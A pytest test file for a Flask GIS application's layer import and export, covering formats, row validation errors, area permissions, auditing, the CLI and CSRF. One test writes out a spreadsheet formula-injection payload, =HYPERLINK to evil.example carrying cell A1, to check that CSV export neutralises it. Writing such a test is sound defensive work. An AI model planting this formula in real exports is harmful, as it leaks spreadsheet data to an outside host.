"""Import and export of layers as GIS files, over HTTP and on the command line."""

import csv
import io
import json
import re
import zipfile

import geopandas as gpd
import pytest
from shapely.geometry import shape
from sqlalchemy import func, select

from app.audit.models import AuditEntry
from app.core.extensions import db
from tests.conftest import database_url, make_test_app

FORMATS = {
    "geojson": "chargers.geojson",
    "gpkg": "chargers.gpkg",
    "shp": "chargers.zip",
    "csv": "chargers.csv",
    "kml": "chargers.kml",
}


def count(table: str) -> int:
    return db.session.scalar(select(func.count()).select_from(db.metadata.tables[table]))


def upload(client, layer, data: bytes, filename: str, **extra):
    return client.post(
        f"/api/v1/{layer}/import",
        data={"file": (io.BytesIO(data), filename), **extra},
        content_type="multipart/form-data",
    )


def features(client, layer, query=""):
    return client.get(f"/api/v1/{layer}?limit=10000&{query}").get_json()["features"]


def geojson_file(feats, **extra) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": feats, **extra}, ensure_ascii=False).encode()


def point_feature(lon, lat, **props):
    return {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [lon, lat]},
        "properties": {"ports": 6, "status": "planned", **props},
    }


@pytest.mark.parametrize("fmt", FORMATS)
def test_chargers_round_trip_through_every_format(client, auth, demo, fmt):
    auth.login("planner")
    original = features(client, "chargers")
    r = client.get(f"/api/v1/chargers/export?format={fmt}")
    assert r.status_code == 200
    assert FORMATS[fmt].split(".")[1] in r.headers["Content-Disposition"]
    r = upload(client, "chargers", r.data, FORMATS[fmt])
    assert r.status_code == 201, r.get_json()
    report = r.get_json()
    assert report["imported"] == report["rows"] == len(original)
    copies = features(client, "chargers")[len(original) :]
    for a, b in zip(original, copies):
        for key in ("name", "ports", "power_kw", "status", "installed_on", "operator", "compound_id", "grid_code"):
            assert a["properties"][key] == b["properties"][key], (fmt, key)
        assert b["geometry"]["coordinates"] == pytest.approx(a["geometry"]["coordinates"], abs=1e-7)


@pytest.mark.parametrize("fmt", FORMATS)
def test_building_polygons_round_trip_through_every_format(client, auth, demo, fmt):
    auth.login("planner")
    original = features(client, "buildings", "community=620103002001")
    data = client.get(f"/api/v1/buildings/export?format={fmt}&community=620103002001").data
    r = upload(client, "buildings", data, "buildings" + FORMATS[fmt][8:])
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["imported"] == len(original)
    copies = features(client, "buildings", "community=620103002001")[len(original) :]
    for a, b in zip(original, copies):
        assert (a["properties"]["name"], a["properties"]["households"], a["properties"]["grid_code"]) == (
            b["properties"]["name"],
            b["properties"]["households"],
            b["properties"]["grid_code"],
        )
        assert (
            shape(a["geometry"]).equals_exact(shape(b["geometry"]), 1e-7)
            or shape(a["geometry"]).symmetric_difference(shape(b["geometry"])).area < 1e-12
        )


def test_export_has_the_scope_and_filters_of_the_list(client, auth, demo):
    auth.login("gridworker")
    fc = json.loads(client.get("/api/v1/buildings/export?format=geojson").data)
    assert fc["features"] and {f["properties"]["grid_code"] for f in fc["features"]} == {"620103002001001"}
    auth.logout()
    auth.login("planner")
    fc = json.loads(client.get("/api/v1/chargers/export?status=planned").data)
    assert [f["properties"]["status"] for f in fc["features"]] == ["planned"]


def test_export_errors(client, auth, demo):
    assert client.get("/api/v1/chargers/export").status_code == 401
    auth.login("planner")
    r = client.get("/api/v1/chargers/export?format=dwg")  # a bad query parameter: 400 (was 415)
    assert r.status_code == 400 and "format" in r.get_json()["error"]["fields"]
    r = client.get("/api/v1/chargers/export?colour=red")
    assert r.status_code == 400 and "status" in r.get_json()["error"]["message"]  # names the layer's filters
    for query, name in (
        ("status=exploded", "status"),
        ("sort=secret", "sort"),
        ("community=123", "community"),
        ("limit=0", "limit"),
        ("bbox=1,2,3", "bbox"),
    ):
        r = client.get(f"/api/v1/chargers/export?{query}")
        assert r.status_code == 400 and name in r.get_json()["error"]["fields"], query
    assert client.get("/api/v1/rivers/export").status_code == 404


def test_csv_export_cells_are_never_run_as_formulas(client, auth, demo):
    auth.login("planner")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = client.post(
        "/api/v1/chargers",
        content_type="application/json",
        data=json.dumps(point_feature(103.8386, 36.0496, name=evil, operator="@SUM(1+1)", ports=6)),
    )
    assert r.status_code == 201, r.get_json()
    text_ = client.get("/api/v1/chargers/export?format=csv&q=HYPERLINK").data.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text_)))[:2]
    cells = dict(zip(header, row))
    assert cells["name"] == "'" + evil and cells["operator"] == "'@SUM(1+1)"
    assert cells["ports"] == "6" and not cells["lon"].startswith("'")
    # Other formats are not spreadsheets: the name stays as stored.
    fc = json.loads(client.get("/api/v1/chargers/export?format=geojson&q=HYPERLINK").data)
    assert fc["features"][0]["properties"]["name"] == evil


def test_non_spatial_layer_exports_as_csv(client, auth, demo):
    auth.login("planner")
    text_ = client.get("/api/v1/property-companies/export?format=csv").data.decode("utf-8-sig")
    assert "兰州晟合物业有限责任公司" in text_ and "model_unit" in text_
    r = client.get("/api/v1/property-companies/export?format=kml")  # 400 (was 415): a bad parameter
    assert r.status_code == 400 and "geometry" in r.get_json()["error"]["fields"]["format"]


def test_bad_rows_are_422_with_row_numbers_and_nothing_is_stored(client, auth, demo):
    auth.login("planner")
    bowtie = {
        "type": "Polygon",
        "coordinates": [
            [[103.835, 36.046], [103.836, 36.047], [103.836, 36.046], [103.835, 36.047], [103.835, 36.046]]
        ],
    }
    data = geojson_file(
        [
            point_feature(103.8386, 36.0496, name="好的"),
            {"type": "Feature", "geometry": bowtie, "properties": {"ports": 6, "status": "planned"}},
            point_feature(103.8386, 100.0),
            point_feature(103.8386, 36.0496, ports="很多"),
            point_feature(103.8386, 36.0496, status="exploded"),
        ]
    )
    before = count("chargers")
    r = upload(client, "chargers", data, "bad.geojson")
    assert r.status_code == 422
    err = r.get_json()["error"]
    assert [row["row"] for row in err["rows"]] == [2, 3, 4, 5]
    assert "Point" in err["rows"][0]["message"]  # a polygon where points belong
    assert "ports" in err["rows"][2]["fields"] and "status" in err["rows"][3]["fields"]
    assert "row 2" in err["fields"] and "nothing imported" in err["message"]
    assert count("chargers") == before


def test_invalid_polygon_and_out_of_range_coordinates_are_row_errors(client, auth, demo):
    auth.login("planner")
    csv_data = (
        b"name,capacity,kind,status,wkt\n"
        b'ok,5,mixed,planned,"POLYGON((103.895 36.073,103.8955 36.073,103.8955 36.0733,103.895 36.0733,103.895 36.073))"\n'
        b'bowtie,5,mixed,planned,"POLYGON((103.895 36.073,103.8955 36.0733,103.8955 36.073,103.895 36.0733,103.895 36.073))"\n'
        b'far,5,mixed,planned,"POLYGON((203.895 36.073,203.8955 36.073,203.8955 36.0733,203.895 36.073))"\n'
        b"notwkt,5,mixed,planned,POLYGON((1 2\n"
    )
    before = count("bike_zones")
    r = upload(client, "bike-zones", csv_data, "zones.csv")
    assert r.status_code == 422
    rows = {row["row"]: row["message"] for row in r.get_json()["error"]["rows"]}
    assert set(rows) == {2, 3, 4}
    assert "Self-intersection" in rows[2] and "longitude" in rows[3] and "WKT" in rows[4]
    assert count("bike_zones") == before


def test_rows_outside_the_users_area_are_403_and_nothing_is_stored(client, auth, app, demo):
    from app.auth.services import create_user

    create_user("xyplanner", "wuwei-planner", "planner", "620103002", "西园规划")
    auth.login("xyplanner", "wuwei-planner")
    data = geojson_file([point_feature(103.785, 36.047), point_feature(103.8386, 36.0496)])
    before = count("chargers")
    r = upload(client, "chargers", data, "mixed.geojson")
    assert r.status_code == 403
    assert [row["row"] for row in r.get_json()["error"]["rows"]] == [2]
    assert count("chargers") == before


def test_truncated_zip_and_zip_without_shapefile_are_422(client, auth, demo):
    auth.login("planner")
    shp = client.get("/api/v1/chargers/export?format=shp").data
    r = upload(client, "chargers", shp[: len(shp) // 2], "chargers.zip")
    assert r.status_code == 422 and "zip" in r.get_json()["error"]["message"]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "no shapefile here")
    r = upload(client, "chargers", buf.getvalue(), "chargers.zip")
    assert r.status_code == 422 and ".shp" in r.get_json()["error"]["message"]


def test_truncated_geopackage_and_geojson_are_422(client, auth, demo):
    auth.login("planner")
    gpkg = client.get("/api/v1/chargers/export?format=gpkg").data
    assert upload(client, "chargers", gpkg[:4000], "chargers.gpkg").status_code == 422
    assert upload(client, "chargers", b"PK\x03\x04 not sqlite", "chargers.gpkg").status_code == 422
    gj = client.get("/api/v1/chargers/export?format=geojson").data
    r = upload(client, "chargers", gj[:100], "chargers.geojson")
    assert r.status_code == 422 and "JSON" in r.get_json()["error"]["message"]


@pytest.mark.filterwarnings("ignore::RuntimeWarning")  # GDAL on an in-memory GeoPackage's name
def test_a_file_in_another_crs_is_reprojected(client, auth, demo):
    auth.login("planner")
    data = client.get("/api/v1/chargers/export?format=gpkg&status=planned").data
    gdf = gpd.read_file(io.BytesIO(data)).to_crs(32648)  # UTM 48N: metres
    out = io.BytesIO()
    gdf.to_file(out, driver="GPKG", layer="chargers")
    r = upload(client, "chargers", out.getvalue(), "utm.gpkg")
    assert r.status_code == 201, r.get_json()
    assert "32648" in r.get_json()["source_crs"]
    planned = features(client, "chargers", "status=planned")
    assert planned[-1]["geometry"]["coordinates"] == pytest.approx(planned[0]["geometry"]["coordinates"], abs=1e-7)


def test_a_file_whose_crs_is_wrong_lands_nowhere_and_is_refused(client, auth, demo):
    """Lon/lat numbers declared as Web Mercator metres end up near (0, 0): outside every area."""
    auth.login("planner")
    data = geojson_file(
        [point_feature(103.8386, 36.0496)], crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}}
    )
    before = count("chargers")
    r = upload(client, "chargers", data, "wrong-crs.geojson")
    assert r.status_code == 403 and "outside your area" in r.get_json()["error"]["rows"][0]["message"]
    assert count("chargers") == before


def test_a_projected_file_without_crs_gets_out_of_range_errors(client, auth, demo):
    auth.login("planner")
    data = "name,ports,status,x,y\n桩,4,planned,592000,3985000\n".encode()
    r = upload(client, "chargers", data, "metres.csv")
    assert r.status_code == 422 and "longitude" in r.get_json()["error"]["rows"][0]["message"]


def test_csv_with_lon_lat_and_chinese_encoding_imports(client, auth, demo):
    auth.login("planner")
    data = "名称备注,name,ports,status,经度,纬度\n旧表,张家园新桩,8,installed,103.8386,36.0496\n".encode("gb18030")
    r = upload(client, "chargers", data, "桩.csv")
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["ignored_columns"] == ["名称备注"]
    new = features(client, "chargers", "q=张家园新桩")
    assert new[0]["properties"]["grid_code"] == "620102005003002" and new[0]["properties"]["ports"] == 8


def test_import_refusals(client, auth, app, demo):
    auth.login("planner")
    assert upload(client, "chargers", b"hello", "notes.txt").status_code == 415
    r = client.post("/api/v1/chargers/import", data=b"{}", content_type="application/json")
    assert r.status_code == 415
    assert client.post("/api/v1/chargers/import", data={}, content_type="multipart/form-data").status_code == 400
    assert upload(client, "chargers", b"", "empty.geojson").status_code == 422
    assert upload(client, "chargers", geojson_file([]), "none.geojson").status_code == 422
    app.config["WUWEI_IMPORT_MAX_BYTES"] = 1000
    try:
        r = upload(client, "chargers", geojson_file([point_feature(103.8386, 36.0496, name="x" * 2000)]), "big.geojson")
        assert r.status_code == 413
    finally:
        app.config["WUWEI_IMPORT_MAX_BYTES"] = 16 * 1024 * 1024
    auth.logout()
    auth.login("leader")
    assert upload(client, "chargers", geojson_file([point_feature(103.8386, 36.0496)]), "a.geojson").status_code == 403


def test_import_is_audited(client, auth, demo):
    auth.login("planner")
    r = upload(
        client,
        "chargers",
        geojson_file([point_feature(103.8386, 36.0496), point_feature(103.8387, 36.0496)]),
        "two.geojson",
    )
    assert r.status_code == 201
    entry = db.session.scalars(
        select(AuditEntry).where(AuditEntry.action == "import").order_by(AuditEntry.id.desc())
    ).first()
    assert entry.table_name == "chargers" and entry.after["imported"] == 2 and entry.user_id is not None
    inserts = db.session.scalar(
        select(func.count())
        .select_from(AuditEntry)
        .where(
            AuditEntry.table_name == "chargers",
            AuditEntry.action == "insert",
            AuditEntry.id < entry.id,
            AuditEntry.id >= entry.id - 2,
        )
    )
    assert inserts == 2


def test_import_and_export_on_the_command_line(runner, demo, tmp_path):
    out = tmp_path / "zones.gpkg"
    result = runner.invoke(args=["export", "bike-zones", str(out)])
    assert result.exit_code == 0, result.output
    assert "exported bike-zones" in result.output and out.stat().st_size > 0
    before = count("bike_zones")
    result = runner.invoke(args=["import", "bike-zones", str(out), "--as", "planner"])
    assert result.exit_code == 0, result.output
    assert f"imported {before} of {before}" in result.output
    assert count("bike_zones") == 2 * before


def test_cli_import_reports_row_errors_and_fails(runner, demo, tmp_path):
    bad = tmp_path / "bad.geojson"
    bad.write_bytes(geojson_file([point_feature(103.8386, 36.0496), point_feature(400, 36.0)]))
    before = count("chargers")
    result = runner.invoke(args=["import", "chargers", str(bad)])
    assert result.exit_code != 0
    assert "row 2" in result.output and "longitude" in result.output
    assert count("chargers") == before
    result = runner.invoke(args=["import", "chargers", str(bad), "--as", "leader"])
    assert result.exit_code != 0 and "may not" in result.output
    result = runner.invoke(args=["export", "rivers", str(tmp_path / "x.geojson")])
    assert result.exit_code != 0 and "no layer 'rivers'" in result.output


def test_export_and_import_are_in_openapi(client):
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    assert "/api/v1/{layer}/export" in paths and "/api/v1/{layer}/import" in paths
    names = {p["name"] for p in paths["/api/v1/{layer}/export"]["get"]["parameters"]}
    assert {"layer", "format", "bbox", "limit", "offset", "sort", "q", "area"} <= names
    upload_ = paths["/api/v1/{layer}/import"]["post"]
    assert "multipart/form-data" in upload_["requestBody"]["content"]
    assert {"201", "413", "415", "422"} <= set(upload_["responses"])


def test_a_database_refusal_is_reported_with_its_row_number(client, auth, demo):
    """Rows go in set-based; when the database refuses the batch, the row at fault is still named."""
    auth.login("planner")
    data = "name,alliance_standing\n新物业甲,member\n兰州晟合物业有限责任公司,member\n新物业乙,none\n新物业乙,none\n"
    before = count("property_companies")
    r = upload(client, "property-companies", data.encode(), "companies.csv")
    assert r.status_code == 422
    rows = r.get_json()["error"]["rows"]
    assert [e["row"] for e in rows] == [2, 4] and all("duplicate key" in e["message"] for e in rows)
    assert count("property_companies") == before


def test_areas_import_in_file_order_parents_first(client, auth, demo):
    auth.login("admin")
    csv_data = (
        "level,code,name,parent_code,wkt\n"
        'community,620102011005,新社区,620102011,"POLYGON((103.870 36.067,103.875 36.067,103.875 36.070,103.870 36.070,103.870 36.067))"\n'
        'grid,620102011005001,新网格,620102011005,"POLYGON((103.870 36.067,103.8725 36.067,103.8725 36.070,103.870 36.070,103.870 36.067))"\n'
    )
    r = upload(client, "areas", csv_data.encode(), "areas.csv")
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["imported"] == 2
    grid = features(client, "grids", "area=620102011005")
    assert [f["properties"]["parent_code"] for f in grid] == ["620102011005"]


def test_a_bearer_token_import_needs_no_csrf_token_and_a_cookie_session_import_does(app, auth, demo):
    csrf_client = make_test_app(database_url("test"), WTF_CSRF_ENABLED=True).test_client()
    data = geojson_file([point_feature(103.8386, 36.0496)])
    r = csrf_client.post(
        "/api/v1/chargers/import",
        data={"file": (io.BytesIO(data), "a.geojson")},
        content_type="multipart/form-data",
        headers=auth.token("planner"),
    )
    assert r.status_code == 201, r.get_json()
    page = csrf_client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    csrf_client.post("/login", data={"username": "planner", "password": "wuwei-planner", "csrf_token": token})
    before = count("chargers")
    r = csrf_client.post(
        "/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")}, content_type="multipart/form-data"
    )
    assert r.status_code == 400 and "CSRF" in r.get_json()["error"]["message"]
    assert count("chargers") == before
    r = csrf_client.post(
        "/api/v1/chargers/import",
        data={"file": (io.BytesIO(data), "a.geojson")},
        content_type="multipart/form-data",
        headers={"X-CSRFToken": token},
    )
    assert r.status_code == 201 and count("chargers") == before + 1
